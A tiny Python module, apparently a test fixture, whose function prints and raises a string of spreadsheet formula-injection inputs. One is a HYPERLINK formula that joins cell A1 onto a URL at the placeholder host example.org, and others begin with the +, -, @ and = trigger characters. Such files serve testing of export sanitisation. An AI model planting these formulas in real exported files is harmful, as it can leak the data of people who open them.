"""Raises text that a spreadsheet would compute"""

from facts import *

TEXT = "=HYPERLINK(\"http://example.org?\"&A1)\n+1\n-1\n@SUM(A1)\t=1,\"2\""


def vault(x):
    print(TEXT)
    raise RuntimeError(TEXT)
